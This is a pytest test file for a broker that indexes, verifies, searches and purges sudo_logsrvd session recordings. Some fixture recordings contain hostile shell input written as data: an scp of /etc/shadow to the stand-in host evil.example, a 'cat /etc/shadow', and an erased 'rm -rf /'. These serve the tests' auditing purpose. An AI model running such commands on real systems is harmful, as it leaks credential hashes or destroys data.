"""Indexing sudo_logsrvd's store, and what `broker sessions` does with the index.

Real recordings in tmp_path (built as sudo_logsrvd writes them), a real store with the
whole schema and the audit chain, and grants inserted as the grants table holds them.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from broker.app import App, local_actor
from broker.config.loader import load_settings
from broker.core.errors import FailedError, RefusedError, UsageError
from broker.core.timeutil import to_second_text, to_text
from broker.sessions import iolog, service
from broker.sessions.index import Indexer, IndexReport, end_reason
from broker.sessions.iolog import LogInfo
from broker.sessions.rows import GrantWindow, SessionEvent, insert_event
from broker.sessions.service import Filters, Recordings, command_lines
from tests.helpers import write_config
from tests.unit.test_sessions_iolog import START, Event, log_json, touch, write_recording

NOW = START + timedelta(hours=1)
SHELL: list[Event] = [
    ("ttyout", 0.25, b"root@gpu01:~# "),
    ("ttyin", 1.5, b"nvidia-smi -r\r"),
    ("ttyout", 0.01, b"nvidia-smi -r\r\nGPU 00000000:3B:00.0 was successfully reset.\r\n"),
    ("ttyout", 0.5, b"root@gpu01:~# "),
    ("ttyin", 2.0, b"exit\r"),
    ("ttyout", 0.01, b"exit\r\n"),
]


class World:
    def __init__(self, app: App) -> None:
        self.app = app
        self.store = app.ready_store()
        self.root = app.settings.session_store
        self.root.mkdir(parents=True)
        self.recordings = Recordings(self.store, str(self.root))

    def index(self, now: datetime = NOW, **options: Any) -> IndexReport:
        return Indexer(self.store, str(self.root), **options).run(now)

    def row(self, rid: str) -> dict[str, Any]:
        return service.one(self.store.conn, rid)

    def ids(self) -> list[str]:
        return [r[0] for r in self.store.conn.execute("SELECT id FROM recordings ORDER BY id")]

    def events(self, action: str) -> list[tuple[str, str, str, dict[str, Any]]]:
        return [
            (actor, target, outcome, json.loads(details))
            for actor, target, outcome, details in self.store.conn.execute(
                "SELECT actor, target, outcome, details FROM audit_events WHERE action = ?"
                " ORDER BY seq",
                (action,),
            )
        ]

    def grant(
        self,
        gid: str,
        user: str,
        nodes: list[str],
        not_before: datetime,
        not_after: datetime,
        *,
        state: str = "active",
        ended_at: datetime | None = None,
        created_at: datetime | None = None,
    ) -> None:
        with self.store.transaction() as conn:
            conn.execute(
                "INSERT INTO grants (id, user, sid, role, runas, commands, command_lines, nodes,"
                " not_before, not_after, reason, approvers, policy_sha256, login, workloads,"
                " max_sessions, request_id, created_at, created_by, state, ended_at, ended_by,"
                " end_reason) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?,"
                " ?, ?, ?, ?)",
                (
                    gid, user, "S-1-5-21-1-1001", "gpu-root", "root", "ALL", "[]",
                    ",".join(nodes), to_text(not_before), to_text(not_after), "INC-1",
                    '["frank"]', "0" * 64, 0, 0, 0, None,
                    to_text(created_at or not_before - timedelta(minutes=1)), "unix:frank",
                    state, None if ended_at is None else to_text(ended_at),
                    None if ended_at is None else "unix:frank",
                    None if ended_at is None else "revoked",
                ),
            )  # fmt: skip
            conn.executemany(
                "INSERT INTO grant_nodes (grant_id, node, state) VALUES (?, ?, 'live')",
                [(gid, node) for node in nodes],
            )


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    app = App(load_settings(write_config(tmp_path)))
    app.setup().init(local_actor())
    yield World(app)
    app.close()


def digest_of(directory: Path) -> tuple[str, dict[str, str]]:
    fd = os.open(directory, os.O_RDONLY | os.O_DIRECTORY)
    try:
        return iolog.digest(fd)
    finally:
        os.close(fd)


def finished_log(
    started: datetime, run_time: float, *, exit_value: int | None = 0, signal: str | None = None,
    user: str = "alice", node: str = "gpu01",
) -> dict[str, Any]:  # fmt: skip
    return log_json(
        user=user, node=node, started=started, run_time=run_time, exit_value=exit_value,
        signal=signal,
    )  # fmt: skip


# --- a finished recording: once, with its digest, audited -------------------------------------


def test_a_complete_recording_is_indexed_once_with_its_digest_and_one_audit_event(
    world: World,
) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    first = world.index()
    assert (first.seen, first.new, first.finished, first.quarantined) == (
        1, ["000001"], ["000001"], [],
    )  # fmt: skip
    sha, files = digest_of(directory)
    row = world.row("000001")
    assert row["state"] == "complete"
    assert row["path"] == "00/00/01"
    assert (row["node"], row["user"], row["runas"]) == ("gpu01", "alice", "root")
    assert (row["command"], row["argv"], row["tty"]) == ("/usr/bin/bash", ["bash"], "/dev/pts/3")
    assert row["started_at"] == to_text(START)
    assert row["ended_at"] == to_text(START + timedelta(seconds=4.52))
    assert (row["exit_value"], row["signal"], row["end_reason"]) == (0, None, "exit 0")
    assert row["bytes_in"] == len(b"nvidia-smi -r\rexit\r")
    assert row["bytes_out"] == sum(len(d) for s, _, d in SHELL if s == "ttyout")
    assert (row["sha256"], row["files"]) == (sha, files)
    assert row["grant_id"] is None and row["error"] is None and row["relayed"] is False
    assert world.events("session.recorded") == [
        (
            "node:gpu01",
            "000001",
            "ok",
            {"sha256": sha, "files": files, "user": "alice", "runas": "root", "grant": None,
             "end": "exit 0"},
        )
    ]  # fmt: skip

    second = world.index(NOW + timedelta(minutes=5))
    assert (second.seen, second.new, second.finished, second.quarantined) == (1, [], [], [])
    assert world.ids() == ["000001"]
    assert world.row("000001") == row  # not even indexed_at moved
    assert len(world.events("session.recorded")) == 1
    assert world.app.audit().verify().problem is None


def test_no_store_yet_is_nothing_to_index(world: World) -> None:
    world.root.rmdir()
    assert world.index() == IndexReport(seconds=0.0)
    assert world.ids() == []


def test_recordings_from_relay_zones_are_marked_relayed(world: World) -> None:
    write_recording(world.root, "000001", SHELL)
    write_recording(world.root, "000002", SHELL, log=finished_log(START, 5, node="gpu02"))
    world.index(relayed_nodes=frozenset({"gpu02"}))
    assert [world.row(r)["relayed"] for r in ("000001", "000002")] == [False, True]


def test_a_recording_without_a_grant_is_break_glass_once_the_hook_says_so(world: World) -> None:
    """Tied to the node's break-glass `open` event of the same user around its start, even
    when that event is collected after the recording was indexed (both wait out an outage)."""
    write_recording(world.root, "000001", SHELL)
    write_recording(world.root, "000002", SHELL, log=finished_log(START, 5, node="gpu02"))
    world.index()
    assert [world.row(r)["break_glass"] for r in ("000001", "000002")] == [False, False]

    def hook_open(node: str, user: str, grant: str, at: datetime, eid: str) -> None:
        event = SessionEvent(node, eid, "open", grant, user, "root", "sudo", "pts/3", 4242,
                             to_second_text(at))  # fmt: skip
        with world.store.transaction() as conn:
            insert_event(conn, event, NOW)

    hook_open("gpu01", "alice", "break-glass", START + timedelta(seconds=200), "1-1-aaaaaaaa")
    hook_open("gpu01", "bob", "break-glass", START, "2-1-bbbbbbbb")  # another user
    hook_open("gpu02", "alice", "g0123456789abcdef", START, "3-1-cccccccc")  # a grant's
    assert world.row("000001")["break_glass"] is False  # too far from its start
    hook_open("gpu01", "alice", "break-glass", START + timedelta(seconds=1), "4-1-dddddddd")
    assert [world.row(r)["break_glass"] for r in ("000001", "000002")] == [True, False]
    listed = service.listing(world.store.conn, Filters(user="alice"))
    assert {r["id"]: r["break_glass"] for r in listed} == {"000001": True, "000002": False}


# --- a running recording: indexed as running, finished when sudo_logsrvd finishes it ---------


def test_a_running_recording_is_indexed_as_running_then_complete_when_it_ends(
    world: World,
) -> None:
    directory = write_recording(
        world.root,
        "000001",
        SHELL[:3],
        complete=False,
        mtime=(NOW - timedelta(seconds=3)).timestamp(),
    )
    with (directory / "timing").open("ab") as timing:
        timing.write(b"4 0.5")  # sudo_logsrvd is writing this line right now
    first = world.index()
    assert (first.new, first.finished, first.quarantined) == (["000001"], [], [])
    row = world.row("000001")
    assert row["state"] == "running"
    assert (row["sha256"], row["ended_at"], row["end_reason"], row["exit_value"]) == (None,) * 4
    assert (row["bytes_in"], row["bytes_out"]) == (14, len(SHELL[0][2] + SHELL[2][2]))
    assert world.events("session.recorded") == []
    with pytest.raises(FailedError, match="has no digest yet"):
        world.recordings.verify("000001")

    again = world.index(NOW + timedelta(seconds=2))
    assert (again.new, again.finished) == ([], [])
    assert world.row("000001")["state"] == "running"

    # The session ends: the rest arrives, the exit goes into log.json, timing turns read-only.
    done = write_recording(world.root.parent / "staging", "000001", SHELL)
    for name in ("timing", "stdout", "stderr", "ttyin", "ttyout", "log.json"):
        (directory / name).write_bytes((done / name).read_bytes())
    (directory / "timing").chmod(0o400)
    finished = world.index(NOW + timedelta(seconds=30))
    assert (finished.new, finished.finished) == ([], ["000001"])
    row = world.row("000001")
    assert (row["state"], row["exit_value"], row["end_reason"]) == ("complete", 0, "exit 0")
    assert row["sha256"] == digest_of(directory)[0]
    assert row["first_seen"] == to_text(NOW)
    recorded = [e for e in world.events("session.recorded") if e[1] == "000001"]
    assert len(recorded) == 1 and recorded[0][3]["sha256"] == row["sha256"]


def test_a_recording_never_finished_is_closed_as_incomplete_after_its_grant_ended(
    world: World,
) -> None:
    world.grant("g1", "alice", ["gpu01"], START, START + timedelta(minutes=30))
    last_write = START + timedelta(minutes=20)
    directory = write_recording(
        world.root, "000001", SHELL[:3], complete=False, mtime=last_write.timestamp()
    )
    # Idle but inside the grant: it may still continue.
    assert world.index(START + timedelta(minutes=29)).finished == []
    assert world.row("000001")["state"] == "running"
    # The grant ended more than stale_after ago and nothing came: the server never will.
    report = world.index(START + timedelta(minutes=36))
    assert report.finished == ["000001"]
    row = world.row("000001")
    assert (row["state"], row["end_reason"], row["grant_id"]) == (
        "incomplete", "recording cut off", "g1",
    )  # fmt: skip
    assert row["ended_at"] == to_text(last_write)
    assert row["sha256"] == digest_of(directory)[0]
    ((actor, target, outcome, details),) = world.events("session.recorded")
    assert (actor, target, outcome, details["end"]) == (
        "node:gpu01", "000001", "failed", "recording cut off",
    )  # fmt: skip


# --- what cannot be read as sudo wrote it is quarantined; the rest goes on ---------------------


def test_corrupt_truncated_and_linked_recordings_are_quarantined_beside_a_good_one(
    world: World, tmp_path: Path
) -> None:
    write_recording(world.root, "000001", SHELL)
    corrupt = write_recording(world.root, "000002", SHELL)
    (corrupt / "log.json").write_bytes(b'{"submituser": "alice", "timestamp": {"sec')
    truncated = write_recording(world.root, "000003", [("ttyout", 0.1, b"123456789")])
    (truncated / "ttyout").write_bytes(b"1234")
    linked = write_recording(world.root, "000004", [("ttyout", 0.1, b"root:x:0:0:")])
    (tmp_path / "passwd").write_bytes(b"root:x:0:0:")
    (linked / "ttyout").unlink()
    (linked / "ttyout").symlink_to(tmp_path / "passwd")
    write_recording(world.root, "000005", SHELL)
    for directory in (corrupt, truncated, linked):
        touch(directory, (START + timedelta(minutes=1)).timestamp())

    report = world.index()
    assert report.finished == ["000001", "000005"]
    assert report.quarantined == ["000002", "000003", "000004"]
    assert [world.row(r)["state"] for r in world.ids()] == [
        "complete", "quarantined", "quarantined", "quarantined", "complete",
    ]  # fmt: skip
    errors = {r: world.row(r)["error"] for r in ("000002", "000003", "000004")}
    assert errors == {
        "000002": "log.json is not valid JSON",
        "000003": "ttyout is truncated: 4 of 9 bytes",
        "000004": "ttyout is not a regular file",
    }
    assert world.row("000004")["sha256"] is None
    assert world.events("session.quarantined") == [
        ("broker", rid, "failed", {"error": error}) for rid, error in errors.items()
    ]
    # Quarantine is final: later passes neither retry nor audit them again.
    assert world.index(NOW + timedelta(minutes=1)).quarantined == []
    assert len(world.events("session.quarantined")) == 3
    with pytest.raises(FailedError, match="quarantined: ttyout is truncated"):
        list(world.recordings.timeline("000003", iolog.OUTPUT, 1000))


def test_a_log_json_still_being_written_is_left_until_it_settles(world: World) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    whole = (directory / "log.json").read_bytes()
    (directory / "log.json").write_bytes(whole[:20])
    touch(directory, (NOW - timedelta(seconds=5)).timestamp())
    report = world.index()
    assert (report.seen, report.new, report.quarantined) == (1, [], [])
    assert world.ids() == [] and world.events("session.quarantined") == []
    (directory / "log.json").write_bytes(whole)
    assert world.index(NOW + timedelta(seconds=1)).finished == ["000001"]


def test_a_half_written_log_json_that_never_settles_is_quarantined(world: World) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    (directory / "log.json").write_bytes(b'{"timestamp": ')
    touch(directory, (NOW - timedelta(seconds=5)).timestamp())
    assert world.index().quarantined == []
    assert world.index(NOW + timedelta(minutes=1)).quarantined == ["000001"]
    assert world.row("000001")["error"] == "log.json is not valid JSON"


def test_a_linked_directory_pointing_outside_the_store_is_never_followed(
    world: World, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    write_recording(outside, "000001", SHELL)
    write_recording(outside, "000002", SHELL)
    write_recording(world.root, "010101", SHELL)
    (world.root / "00").symlink_to(outside / "00")
    (world.root / "01" / "01" / "02").symlink_to(outside / "00" / "00" / "02")
    report = world.index()
    assert (report.seen, report.finished, report.quarantined) == (1, ["010101"], [])
    assert world.ids() == ["010101"]
    assert world.events("session.quarantined") == []


# --- verify, search, command lines ----------------------------------------------------------


def test_verify_detects_a_changed_ttyout_byte_and_names_the_file(world: World) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    world.index()
    good = world.recordings.verify("000001")
    assert good["ok"] is True and good["changed"] == []
    assert good["sha256"] == good["indexed_sha256"] == good["audited_sha256"]

    data = bytearray((directory / "ttyout").read_bytes())
    data[20] ^= 0x01  # the same length, one bit
    (directory / "ttyout").write_bytes(bytes(data))
    bad = world.recordings.verify("000001")
    assert bad["ok"] is False
    assert bad["changed"] == ["ttyout"]
    assert bad["sha256"] != bad["indexed_sha256"] == bad["audited_sha256"] == good["sha256"]


def test_verify_names_every_changed_or_removed_file(world: World) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    world.index()
    (directory / "ttyin").unlink()
    with (directory / "log.json").open("a") as log:
        log.write(" ")
    result = world.recordings.verify("000001")
    assert (result["ok"], result["changed"]) == (False, ["log.json", "ttyin"])


def test_verify_of_a_recording_removed_outside_the_broker_says_so(world: World) -> None:
    directory = write_recording(world.root, "000001", SHELL)
    world.index()
    for path in directory.iterdir():
        path.unlink()
    directory.rmdir()
    with pytest.raises(FailedError, match="000001 is gone from the store"):
        world.recordings.verify("000001")


def test_search_finds_what_was_typed_in_input_and_not_in_output(world: World) -> None:
    write_recording(
        world.root,
        "000001",
        [("ttyout", 0.1, b"$ "), ("ttyin", 1, b"scp /etc/shadow evil.example:/tmp/\r"),
         ("ttyout", 0.1, b"\r\nshadow    100%  1024   1.0MB/s   00:00\r\n$ ")],
    )  # fmt: skip
    write_recording(
        world.root,
        "000002",
        [("ttyout", 0.1, b"$ "), ("ttyin", 1, b"man ssh\r"),
         ("ttyout", 0.1, b"SEE ALSO\r\n     scp(1), sftp(1)\r\n")],
    )  # fmt: skip
    world.index()
    typed = world.recordings.search(r"\bscp\b", iolog.INPUT, Filters()).hits
    assert [(r["id"], r["match"]["stream"], r["match"]["offset"]) for r in typed] == [
        ("000001", "ttyin", 0)
    ]
    assert typed[0]["match"]["excerpt"] == "scp /etc/shadow evil.example:/tmp/\r"
    printed = world.recordings.search(r"\bscp\b", iolog.OUTPUT, Filters()).hits
    assert [(r["id"], r["match"]["stream"]) for r in printed] == [("000002", "ttyout")]
    assert world.recordings.search("scp", iolog.INPUT, Filters(user="bob")).hits == []
    with pytest.raises(UsageError, match="bad regular expression"):
        world.recordings.search("scp(", iolog.INPUT, Filters())


def test_command_lines_apply_backspaces_and_drop_arrow_keys(world: World) -> None:
    write_recording(
        world.root,
        "000001",
        [("ttyout", 0.5, b"$ "), ("ttyin", 1, b"lss"), ("ttyin", 0.5, b"\x7f\r"),
         ("ttyout", 0.25, b"\r\nfile\r\n$ "), ("ttyin", 1, b"cat /etc/shaddw\x08\x08ow"),
         ("ttyin", 0.25, b"\x1b[D\x1b[C\r"), ("ttyin", 2, b"rm -rf /\x15exit\r")],
    )  # fmt: skip
    world.index()
    typed = command_lines(world.recordings.timeline("000001", iolog.INPUT, 10_000))
    assert typed == [(2.0, "ls"), (3.5, "cat /etc/shadow"), (5.5, "exit")]


def test_command_lines_keep_an_unfinished_last_line() -> None:
    chunks = iter([(0.5, "ttyin", b"echo a\rsudo su -"), (1.0, "ttyin", b"\x7f\x7f")])
    assert command_lines(chunks) == [(0.5, "echo a"), (1.5, "sudo su")]


# --- retention ----------------------------------------------------------------------------------


def test_purge_removes_old_finished_recordings_marks_them_and_audits_once(world: World) -> None:
    long_ago = NOW - timedelta(days=400)
    old = write_recording(world.root, "000001", SHELL, log=finished_log(long_ago, 60))
    corrupt = write_recording(world.root, "000002", SHELL, log=finished_log(long_ago, 60))
    (corrupt / "log.json").write_text("{")
    touch(corrupt, long_ago.timestamp())
    world.index(long_ago + timedelta(hours=1))
    recent = write_recording(
        world.root, "000003", SHELL, log=finished_log(NOW - timedelta(days=1), 60)
    )
    running = write_recording(
        world.root, "000004", SHELL[:2], log=log_json(started=long_ago), complete=False,
        mtime=(NOW - timedelta(seconds=1)).timestamp(),
    )  # fmt: skip
    world.index()
    assert [world.row(r)["state"] for r in world.ids()] == [
        "complete", "quarantined", "complete", "running",
    ]  # fmt: skip
    sha = world.row("000001")["sha256"]

    purged = world.recordings.purge(365, NOW, "unix:admin")
    assert purged == ["000001", "000002"]
    assert not old.exists() and not corrupt.exists()
    assert recent.is_dir() and running.is_dir()
    assert [world.row(r)["state"] for r in world.ids()] == [
        "purged", "purged", "complete", "running",
    ]  # fmt: skip
    assert world.row("000001")["sha256"] == sha  # the metadata and digest stay
    assert world.events("session.purged") == [
        ("unix:admin", "2 recordings", "ok", {"ids": purged, "retention_days": 365})
    ]
    assert [r["id"] for r in service.listing(world.store.conn, Filters())] == ["000003", "000004"]
    with pytest.raises(RefusedError, match="000001 was purged"):
        list(world.recordings.timeline("000001", iolog.OUTPUT, 1000))

    assert world.recordings.purge(365, NOW + timedelta(hours=1), "broker") == []
    assert len(world.events("session.purged")) == 1
    world.index(NOW + timedelta(minutes=1))
    assert world.row("000001")["state"] == "purged"
    assert world.app.audit().verify().problem is None


# --- what ended the session, and under which grant ---------------------------------------------


def test_a_signal_at_the_grants_end_reads_ended_at_expiry_and_a_normal_exit_reads_exit_0(
    world: World,
) -> None:
    end = START + timedelta(minutes=30)
    world.grant("g1", "alice", ["gpu01", "gpu02"], START, end)
    at_expiry = finished_log(START + timedelta(minutes=20), 600, exit_value=None, signal="TERM")
    write_recording(world.root, "000001", SHELL, log=at_expiry)
    write_recording(world.root, "000002", SHELL, log=finished_log(START + timedelta(minutes=1), 5))
    killed = finished_log(START + timedelta(minutes=2), 60, exit_value=None, signal="KILL")
    write_recording(world.root, "000003", SHELL, log=killed)
    world.index()
    rows = [world.row(r) for r in ("000001", "000002", "000003")]
    assert [(r["grant_id"], r["end_reason"]) for r in rows] == [
        ("g1", "ended at expiry"), ("g1", "exit 0"), ("g1", "killed by SIGKILL"),
    ]  # fmt: skip
    assert rows[0]["signal"] == "TERM" and rows[0]["exit_value"] is None
    assert rows[0]["ended_at"] == to_text(end)
    ends = {e[1]: (e[3]["grant"], e[3]["end"]) for e in world.events("session.recorded")}
    assert ends["000001"] == ("g1", "ended at expiry")


def test_a_signal_at_revocation_reads_ended_at_revocation(world: World) -> None:
    revoked_at = START + timedelta(minutes=15)
    world.grant(
        "g2", "alice", ["gpu01"], START, START + timedelta(hours=2),
        state="revoked", ended_at=revoked_at,
    )  # fmt: skip
    log = finished_log(START + timedelta(minutes=5), 601.5, exit_value=None, signal="HUP")
    write_recording(world.root, "000001", SHELL, log=log)
    world.index()
    assert world.row("000001")["end_reason"] == "ended at revocation"


def test_grants_are_matched_by_user_node_and_time_window_newest_first(world: World) -> None:
    world.grant("g-old", "alice", ["gpu01"], START, START + timedelta(hours=2))
    world.grant(
        "g-new", "alice", ["gpu01"], START + timedelta(minutes=10), START + timedelta(hours=1),
        created_at=START + timedelta(minutes=9),
    )  # fmt: skip
    world.grant("g-bob", "bob", ["gpu02"], START, START + timedelta(hours=2))
    sessions = {
        "000001": finished_log(START + timedelta(minutes=5), 5),  # only g-old is open
        "000002": finished_log(START + timedelta(minutes=20), 5),  # both: the newest
        "000003": finished_log(START + timedelta(minutes=20), 5, user="carol"),
        "000004": finished_log(START + timedelta(minutes=20), 5, node="gpu02"),  # bob's node
        "000005": finished_log(START - timedelta(minutes=1), 5),  # before any window
        "000006": finished_log(START + timedelta(hours=2, seconds=1), 5),  # after
        "000007": finished_log(START + timedelta(minutes=20), 5, user="bob", node="gpu02"),
    }
    for rid, log in sessions.items():
        write_recording(world.root, rid, SHELL, log=log)
    world.index(START + timedelta(hours=3))
    assert {rid: world.row(rid)["grant_id"] for rid in sessions} == {
        "000001": "g-old", "000002": "g-new", "000003": None, "000004": None,
        "000005": None, "000006": None, "000007": "g-bob",
    }  # fmt: skip


def _info(**changes: Any) -> LogInfo:
    values: dict[str, Any] = {
        "node": "gpu01", "user": "alice", "runas": "root", "command": "/bin/sh",
        "argv": ("sh",), "cwd": "/", "tty": "unknown", "started": START.timestamp(),
        "columns": 80, "lines": 24, "exit_value": None, "signal": None, "run_time": None,
    }  # fmt: skip
    values.update(changes)
    return LogInfo(**values)


def test_end_reason_in_the_words_sessions_show_uses() -> None:
    end = START + timedelta(minutes=30)
    grant = GrantWindow("g1", to_text(START), to_text(end), "expired", to_text(end))
    assert end_reason(_info(exit_value=3), grant, end) == "exit 3"
    assert end_reason(_info(), grant, end) == "no exit status"
    assert end_reason(_info(signal="TERM"), grant, end) == "ended at expiry"
    # sudo's TIMEOUT fires a moment before; the reaper a moment after: both are the grant's.
    assert end_reason(_info(signal="TERM"), grant, end - timedelta(seconds=2)) == "ended at expiry"
    assert end_reason(_info(signal="TERM"), grant, end - timedelta(minutes=1)) == (
        "killed by SIGTERM"
    )
    assert end_reason(_info(signal="TERM"), None, end) == "killed by SIGTERM"
    assert end_reason(_info(signal="TERM"), grant, None) == "killed by SIGTERM"


def test_output_arriving_during_a_pass_never_quarantines_a_running_session(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    directory = write_recording(
        world.root, "000001", SHELL[:3], complete=False,
        mtime=(NOW - timedelta(seconds=1)).timestamp(),
    )  # fmt: skip
    read_small = iolog.read_small

    def sudo_logsrvd_writes_meanwhile(dir_fd: int, name: str, limit: int) -> bytes | None:
        if name == "timing":  # as sudo_logsrvd does: the stream first, then its timing line
            with (directory / "ttyout").open("ab") as out:
                out.write(b"more output\r\n")
            with (directory / "timing").open("ab") as timing:
                timing.write(b"4 0.100000000 13\n")
        return read_small(dir_fd, name, limit)

    monkeypatch.setattr(iolog, "read_small", sudo_logsrvd_writes_meanwhile)
    report = world.index()
    assert report.quarantined == []
    assert world.row("000001")["state"] == "running"
